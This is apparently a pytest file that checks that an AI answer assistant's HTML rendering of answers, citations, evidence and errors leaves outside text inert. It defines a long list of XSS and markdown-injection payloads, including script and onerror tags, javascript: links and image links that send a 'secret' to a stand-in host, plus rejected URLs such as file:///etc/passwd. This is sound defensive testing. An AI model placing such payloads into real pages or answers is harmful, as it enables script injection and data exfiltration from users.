"""Nothing that comes from outside may be live in what the page shows."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from assistant.models import (
    Answer,
    Citation,
    Claim,
    Coverage,
    EvidenceFound,
    EvidenceSentence,
    Generator,
)
from assistant.serving.answer_view import answer_html, evidence_html, failure_html
from assistant.serving.exchange import Exchange, Failure
from assistant.serving.rendering import byline, day, label, plain, rich, web_address

SECRET = "http://evil.example/?d=secret"
ATTACKS = [
    f"![x]({SECRET})",
    f"![x][r]\n\n[r]: {SECRET}",
    f"[![x]({SECRET})](http://evil.example)",
    f"[click]({SECRET})",
    f"[click](<{SECRET}>)",
    f"[click]({SECRET} 'title')",
    f"[click][r]\n\n[r]: {SECRET}",
    f"<{SECRET}>",
    SECRET,
    "www.evil.example/secret",
    "mail@evil.example",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    f"[1]({SECRET})",
    f"[1][2]({SECRET})",
    f"[1]: {SECRET}",
    "<script>alert(1)</script>",
    f"<img src={SECRET}>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    f"<iframe src='{SECRET}'></iframe>",
    f"<style>body{{background:url({SECRET})}}</style>",
    f"<link rel=stylesheet href={SECRET}>",
    f"<meta http-equiv=refresh content='0;url={SECRET}'>",
    f"<form action={SECRET}><button>x</button></form>",
    f"<a href='{SECRET}'>x</a>",
    '"><a href="#see-0-c1">fake</a>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus x="',
    f'```mermaid\ngraph TD\nA@{{ img: "{SECRET}" }}\n```',
    f"~~~mermaid\nA@{{ img: '{SECRET}' }}\n~~~",
    "`<img src=x onerror=alert(1)>`",
    f"$\\href{{{SECRET}}}{{x}}$ $$\\url{{{SECRET}}}$$",
    ":red[danger] :material/home: :smile:",
    f":image[{SECRET}]",
    f"# heading ![x]({SECRET})",
    f"- item ![x]({SECRET})\n1. <b>bold</b>",
    f"| a |\n|---|\n| ![x]({SECRET}) |",
    f"[^1]: ![x]({SECRET})\n\n[^1]",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202egnp.evil//:ptth\u202c <b>x</b>",
    "**<img src=x onerror=alert(1)>**",
    "<!--<img src=x>--><![CDATA[<script>]]>",
    "[x](#see-0-c1)",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
]
# Exactly what our own templates use; no attack may add to it.
TAGS = {"a", "b", "bdi", "br", "details", "div", "em", "h1", "li", "ol", "p", "small"}
TAGS |= {"span", "strong", "summary", "ul", "h2", "h3", "h4", "h5", "h6"}
ATTRIBUTES = {"aria-label", "class", "href", "open", "role", "start", "tabindex"}
ATTRIBUTES |= {"title"}


class Live(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]

    def handle_data(self, data: str) -> None:
        self.text += data


def live(html: str) -> Live:
    parser = Live()
    parser.feed(html)
    parser.close()
    return parser


def attacked(attack: str) -> Citation:
    return Citation(
        number=1,
        article_id="a1",
        title=attack,
        outlet=attack,
        published=attack,
        url=attack,
        revision="r",
        quote=attack,
        start=0,
        end=len(attack),
    )


def everywhere(attack: str) -> Exchange:
    """An exchange in which every text that comes from outside is the attack."""
    citation = attacked(attack)
    answer = Answer(
        question=attack,
        standalone_question=attack,
        kind="list",
        status="partial",
        missing=(attack,),
        text=f"{attack} [1]",
        claims=(Claim(text=attack, support="partial", citations=(1,)),),
        citations=(citation,),
        generator=Generator(kind="model", model=attack),
    )
    sentence = EvidenceSentence(
        number=1,
        article_id="a1",
        title=attack,
        outlet=attack,
        published=attack,
        text=attack,
        start=0,
        end=len(attack),
        score=1,
    )
    found = EvidenceFound(
        standalone_question=attack,
        kind="list",
        sentences=(sentence,),
        coverage=Coverage(),
    )
    return Exchange(
        question="another",
        evidence=found,
        text=answer.text,
        citations=(citation,),
        answer=answer,
        failure=Failure(message=attack, hint=attack),
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_any_place_of_an_answer_is_inert(attack: str) -> None:
    exchange = everywhere(attack)
    html = evidence_html(exchange, 0, latest=True) + answer_html(exchange, 0)
    found = live(html)
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    assert set(found.links) <= {"#see-0-c1", "#see-0-e0"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_label_keeps_no_unescaped_mark(attack: str) -> None:
    unescaped = label(attack).replace("\\\\", "")
    for mark in "[]()<>!$:`*_#~|&\"'":
        assert unescaped.count(mark) == unescaped.count("\\" + mark)
    assert "\n" not in unescaped


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_an_error_is_inert(attack: str) -> None:
    found = live(failure_html(Failure(message=attack, hint=attack)))
    assert found.tags <= {"b", "bdi", "div", "p"}
    assert found.links == []


def test_plain_text_reads_exactly_as_it_was() -> None:
    assert live(plain("a < b & [1] *c*")).text == "a < b & [1] *c*"


def test_a_mark_becomes_a_chip_only_when_its_citation_exists() -> None:
    html = rich("One [1], nine [9], a year [2022].", [attacked("quoted")], 3)
    assert live(html).links == ["#see-3-c1"]
    assert (
        live(html).text.strip() == "One\N{NO-BREAK SPACE}[1], nine [9], a year [2022]."
    )


def test_two_marks_in_a_row_are_two_chips() -> None:
    first = attacked("one")
    second = replace(first, number=2)
    assert live(rich("x [1][2]", [first, second], 0)).links == [
        "#see-0-c1",
        "#see-0-c2",
    ]


def test_emphasis_and_lists_of_an_answer_survive() -> None:
    assert {"strong", "ul", "li"} <= live(rich("- **Bulgaria**\n- Serbia", [], 0)).tags


def test_what_is_unknown_is_said_to_be_unknown() -> None:
    assert byline(None, None) == "Outlet not stated · undated"


@pytest.mark.parametrize(
    ("stated", "shown"),
    [
        ("2026-02-01", "1 Feb 2026"),
        ("2026-02-01T23:59:00+02:00", "1 Feb 2026"),
        ("spring", "spring"),
    ],
)
def test_a_date_is_shown_as_stated(stated: str, shown: str) -> None:
    assert day(stated) == shown


@pytest.mark.parametrize(
    "url",
    [
        None,
        "",
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "//evil.example/x",
        "http://",
        "https://user:secret@evil.example/",
        "http://[::1",
    ],
)
def test_only_plain_web_addresses_are_linked(url: str | None) -> None:
    assert web_address(url, "Any sentence.") is None


def test_the_original_opens_at_the_sentence() -> None:
    assert (
        web_address("https://ledger.example/a?b=1#top", "Non-stop, it said.")
        == "https://ledger.example/a?b=1#:~:text=Non%2Dstop%2C%20it%20said."
    )
